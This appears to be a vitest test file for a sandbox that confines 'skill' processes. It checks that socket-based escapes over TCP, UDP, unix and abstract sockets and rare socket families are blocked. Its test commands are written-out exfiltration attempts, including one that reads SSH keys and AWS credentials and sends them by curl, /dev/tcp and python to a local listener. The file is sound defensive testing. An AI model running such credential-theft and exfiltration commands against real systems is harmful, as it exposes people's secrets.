import { spawn } from "node:child_process";
import { createSocket, type RemoteInfo } from "node:dgram";
import { once } from "node:events";
import { createServer, type ListenOptions } from "node:net";
import { join } from "node:path";
import { expect, onTestFinished } from "vitest";
import { describeEscapes, describeLinuxEscapes } from "./test-escapes.ts";

/** The host's; part of every Debian and of macOS. */
const perl = "/usr/bin/perl";

describeEscapes("sockets", (attack) => {
  attack("TCP to the host's loopback, by every program at hand", async ({ run }) => {
    const four = await openSink({ host: "127.0.0.1", port: 0 });
    const six = await openSink({ host: "::1", port: 0 });
    const { stdout } = await run(
      `for p in $PORTS; do for h in 127.0.0.1 ::1 localhost 0.0.0.0; do
         { echo leak >"/dev/tcp/$h/$p"; } 2>/dev/null
         curl -s -m 5 "http://$h:$p/leak" "http://[$h]:$p/leak"
         perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Timeout => 5) && print "connected\\n"' $h $p
       done; done; echo tried`,
      { environment: { PORTS: `${four.port} ${six.port}` } },
    );
    expect({ stdout, four: four.received(), six: six.received() }).toEqual({
      stdout: "tried\n",
      four: [],
      six: [],
    });
  });

  attack("UDP to the host's loopback", async ({ run }) => {
    const received: string[] = [];
    const socket = createSocket("udp4", (bytes: Buffer, _: RemoteInfo) => void received.push(String(bytes)));
    onTestFinished(() => void socket.close());
    socket.bind(0, "127.0.0.1");
    await once(socket, "listening");
    const { port } = socket.address();
    await run(`echo leak >"/dev/udp/127.0.0.1/$PORT"; echo leak >"/dev/udp/255.255.255.255/$PORT"; true`, {
      environment: { PORT: String(port) },
    });
    // Datagrams come in order: when our own is here, so would be theirs.
    socket.send("own", port, "127.0.0.1");
    await expect.poll(() => received, { timeout: 10_000 }).toContain("own");
    expect(received).toEqual(["own"]);
  });

  attack(
    "unix sockets in the skill's folder and in the output folder",
    async ({ run, skill, output }) => {
      const [one, two] = [
        await openSink({ path: join(skill, "s") }),
        await openSink({ path: join(output, "s") }),
      ];
      const { stdout } = await run(
        `for s in "$SKILL/s" "$OUTPUT/s"; do
         perl -e 'socket(S, 1, 1, 0) && connect(S, pack("Sa*", 1, $ARGV[0])) && print "connected\\n" && syswrite(S, "leak")' "$s"
         curl -s -m 5 --unix-socket "$s" http://localhost/leak
       done; echo tried`,
      );
      expect({ stdout, one: one.received(), two: two.received() }).toEqual({
        stdout: "tried\n",
        one: [],
        two: [],
      });
    },
    "unix-sockets-off",
  );

  attack("a stolen key sent to a server that waits for it", async ({ run }) => {
    const sink = await openSink({ host: "127.0.0.1", port: 0 });
    const { stdout } = await run(
      `key=$(cat "$OUTSIDE/secret" ~/.ssh/* /root/.ssh/* /home/*/.ssh/* ~/.aws/credentials 2>/dev/null)
       curl -s -m 5 -d "key=$key" "http://127.0.0.1:$PORT/"
       { echo "$key" >"/dev/tcp/127.0.0.1/$PORT"; } 2>/dev/null
       python3 -c 'import os, urllib.request; urllib.request.urlopen("http://127.0.0.1:" + os.environ["PORT"], data=b"x", timeout=5)' 2>/dev/null
       echo "the key is $key"`,
      { environment: { PORT: String(sink.port) } },
    );
    expect(sink.received()).toEqual([]);
    expect(stdout).toBe("the key is \n");
  });
});

describeLinuxEscapes("sockets that other systems do not have", (attack) => {
  attack("abstract unix sockets", async ({ run, canary }) => {
    const sink = await openSink({ path: `\0${canary}` });
    const { stdout } = await run(
      `perl -e 'socket(S, 1, 1, 0) && connect(S, pack("Sxa*", 1, $ENV{NAME})) && print "connected\\n"'; echo tried`,
      { environment: { NAME: canary } },
    );
    expect({ stdout, received: sink.received() }).toEqual({ stdout: "tried\n", received: [] });
  });

  attack(
    "datagrams to a unix socket, by a pair of sockets that was allowed",
    async ({ run, skill }) => {
      const receiver = await openDatagramSink(join(skill, "d"));
      const { stdout } = await run(
        `perl -e '$to = pack("Sa*", 1, "$ENV{SKILL}/d");
         for $type (2, 3) { socketpair(A, B, 1, $type, 0) && defined send(A, "leak", 0, $to) && print "sent\\n" }
         for $type (1, 5) { socketpair(A, B, 1, $type, 0) && defined send(A, "leak", 0, $to) && print "sent\\n" }
         socket(C, 1, 2, 0) && defined send(C, "leak", 0, $to) && print "sent\\n"'; echo tried`,
      );
      // A stream pair delivers data to its other end, whatever its address.
      const words = stdout.split("\n").filter((line) => line === "tried");
      expect({ words, received: await receiver.stop() }).toEqual({ words: ["tried"], received: "" });
    },
    "unix-datagrams-off",
  );

  attack(
    "sockets that reach the machine below: vsock, packets, keys, other parts of the kernel",
    async ({ run }) => {
      const { stdout } = await run(
        `perl -e 'for $family (1..45) { next if $family == 2 || $family == 10 || $family == 16; for $type (1, 2, 3, 5) { socket(S, $family, $type, 0) and print "$family\\n" } } print "tried\\n"'`,
      );
      expect(stdout).toBe("tried\n");
    },
    "socket-families-few",
  );
});

type Sink = { readonly port: number; received(): readonly string[] };

/** A server of the host that records every connection and its data. */
async function openSink(where: ListenOptions): Promise<Sink> {
  const visits: string[] = [];
  const server = createServer((socket) => {
    const visit = visits.push("") - 1;
    socket.on("data", (bytes) => {
      visits[visit] += String(bytes);
      socket.end();
    });
    socket.on("error", () => {});
  });
  server.listen(where);
  await once(server, "listening");
  onTestFinished(() => void server.close());
  const address = server.address();
  return { port: typeof address === "object" ? (address?.port ?? 0) : 0, received: () => [...visits] };
}

/** Node has no datagram sockets with a path, so perl receives: it returns the data that arrived before our own marker. */
async function openDatagramSink(path: string): Promise<{ stop(): Promise<string> }> {
  const receive = `$| = 1; socket(S, 1, 2, 0); bind(S, pack("Sa*", 1, $ARGV[0])) or die; print "ready\\n";
    while (1) { recv(S, $word, 100, 0); last if $word eq "stop"; print "$word\\n" } print "end\\n"`;
  const receiver = spawn(perl, ["-e", receive, path], { stdio: ["ignore", "pipe", "inherit"] });
  onTestFinished(() => void receiver.kill("SIGKILL"));
  let output = "";
  receiver.stdout.on("data", (bytes) => {
    output += String(bytes);
  });
  await expect.poll(() => output, { timeout: 10_000 }).toContain("ready\n");
  return {
    stop: async () => {
      spawn(perl, ["-e", 'socket(S, 1, 2, 0); send(S, "stop", 0, pack("Sa*", 1, $ARGV[0]))', path]);
      await expect.poll(() => output, { timeout: 10_000 }).toContain("end\n");
      return output.slice("ready\n".length, -"end\n".length);
    },
  };
}
